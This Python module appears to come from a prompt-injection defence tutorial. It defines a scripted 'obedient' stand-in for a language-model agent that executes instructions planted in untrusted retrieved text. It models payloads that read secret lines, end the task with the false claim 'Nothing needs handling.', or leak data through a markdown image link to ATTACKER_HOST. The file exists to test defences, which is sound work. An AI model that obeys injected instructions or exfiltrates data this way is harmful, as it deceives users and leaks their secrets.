"""An obedient scripted model: it does its task, and whatever the content it reads tells it.

Like chapter 03's :class:`~tutorial_lib.agent.loop.ScriptedModel`, this is NOT a language
model: it is a fixed, deterministic policy, documented so that nobody mistakes its
figures for a model's. It stands for the worst case a defender must plan for: a model
that *understands every injected instruction and obeys it*.

- Its task is a :class:`~tutorial_lib.agent.evidence.ReadPlan` (which calls to make,
  page after page, and what to answer from their results): the benign behaviour.
- Its "understanding" is a book of :class:`PlacedPayload` records: the text of each
  payload exactly as it was placed in the world, and what the payload asks for
  (:func:`tutorial_lib.worlds.payloads.demands`). It reads the untrusted field of its input
  (:func:`tutorial_lib.agent.provenance.model_input`) and recognises a payload once one
  sentence-start of each of its parts reached it (after Unicode NFKC, with zero-width
  and bidirectional controls removed, case folded): a tool that cut or dropped the text
  has kept the payload from it. It then makes the payload's calls at once, before going on
  with its task (a ``stop`` act ends the task with the false "nothing to handle"; a
  ``link`` act adds an image link to the attacker's host, carrying the data it holds).

The attack succeeds or fails by what the *executor* and the *host* let happen, which is
exactly what the suite measures.
"""

from __future__ import annotations

import json
import re
import unicodedata
import urllib.parse
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from typing import Any

from tutorial_lib.agent.evidence import ReadPlan, format_answer
from tutorial_lib.agent.loop import FinalAnswer, ToolCall, Transcript
from tutorial_lib.agent.provenance import model_input, texts_in
from tutorial_lib.worlds.payloads import ATTACKER_HOST, Act, Payload, demands

__all__ = [
    "NOTHING_TO_HANDLE",
    "ObedientModel",
    "PlacedPayload",
    "normalize",
    "recognises",
]

#: The false claim of a ``stop`` act.
NOTHING_TO_HANDLE = "Nothing needs handling."

_CONTROLS = re.compile(r"[\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff]")
_SENTENCE_END = re.compile(r"(?<=[.!?;。！？；])\s*|\n+")
#: How many characters of a sentence's start must have reached the model.
CUE_CHARS = 24


def normalize(text: str) -> str:
    """NFKC, zero-width and bidi controls removed, case folded, whitespace collapsed."""
    plain = _CONTROLS.sub("", unicodedata.normalize("NFKC", text)).casefold()
    return " ".join(plain.split())


def _cues(part: str) -> list[str]:
    starts = [normalize(s) for s in _SENTENCE_END.split(part)]
    return [s[:CUE_CHARS] for s in starts if len(s) >= 8]


def recognises(part: str, seen: str) -> bool:
    """Whether one sentence-start of ``part`` is in ``seen`` (already :func:`normalize`-d)."""
    return any(cue in seen for cue in _cues(part))


@dataclass(frozen=True)
class PlacedPayload:
    """A payload as it was placed: ``texts``, one per part, exactly as written in the world."""

    payload: Payload
    texts: tuple[str, ...]


class ObedientModel:
    """The worst-case model of chapter 06: ``plan`` is its task, ``book`` what it obeys.

    Stateless between calls: :meth:`next_action` replays the transcript, so the same
    transcript always gives the same action. ``user_request`` is kept in its own field of
    the model's input; it does not help: this model obeys retrieved text anyway.
    """

    def __init__(
        self, plan: ReadPlan, book: Sequence[PlacedPayload] = (), *, user_request: str = ""
    ) -> None:
        self.plan = plan
        self.book = tuple(book)
        self.user_request = user_request or plan.name

    def next_action(self, transcript: Transcript) -> ToolCall | FinalAnswer:
        """Replay ``transcript``; return the next call or the answer."""
        view = model_input(self.user_request, transcript)
        results: list[tuple[str, Mapping[str, Any]]] = []
        queue: list[Act] = []
        obeyed: set[str] = set()
        loot: list[str] = []
        link = False
        seen = ""
        planned = self.plan.next_call(results)
        for step, item in zip(transcript.steps, view.retrieved, strict=True):
            link = _drain_marks(queue) or link
            if queue:  # this step was the first queued act
                queue.pop(0)
                if step.ok and step.name == "read_lines":
                    loot.extend(line["text"] for line in step.result["data"]["lines"])
            elif step.ok:
                results.append((step.name, step.result["data"]))
                planned = self.plan.next_call(results)
            else:
                return FinalAnswer(f"{self.plan.name}: stopped on {step.error_code}", True)
            if item.trust == "untrusted":
                seen += " " + normalize(" ".join(texts_in(item.content)))
            for placed in self.book:
                key = placed.payload.payload_id
                if key not in obeyed and all(recognises(t, seen) for t in placed.texts):
                    obeyed.add(key)
                    queue.extend(demands(placed.payload))
        link = _drain_marks(queue) or link
        if queue:
            act = queue[0]
            if act.kind == "stop":
                return FinalAnswer(format_answer(self.plan.name, "complete", (), NOTHING_TO_HANDLE))
            arguments: dict[str, Any] = dict(act.arguments)
            if act.loot_field:
                arguments[act.loot_field] = _loot_text(loot, seen)
            return ToolCall(act.tool, arguments)
        if planned is not None:
            return planned
        notes = ""
        if link:
            data = urllib.parse.quote(_loot_text(loot, seen)[:200])
            notes = f"![status](https://{ATTACKER_HOST}/badge.png?d={data})"
        return FinalAnswer(
            format_answer(
                self.plan.name,
                self.plan.coverage(results),
                self.plan.items(results),
                notes,
                self.plan.content(results),
            )
        )


def _drain_marks(queue: list[Act]) -> bool:
    """Take ``link`` acts off the head of the queue (they need no call); True if any."""
    found = False
    while queue and queue[0].kind == "link":
        queue.pop(0)
        found = True
    return found


def _loot_text(loot: list[str], seen: str) -> str:
    """What the model holds to send: the secret lines it read, else what it saw."""
    if loot:
        return "\n".join(loot)
    return json.dumps(seen.strip()[:200], ensure_ascii=False)
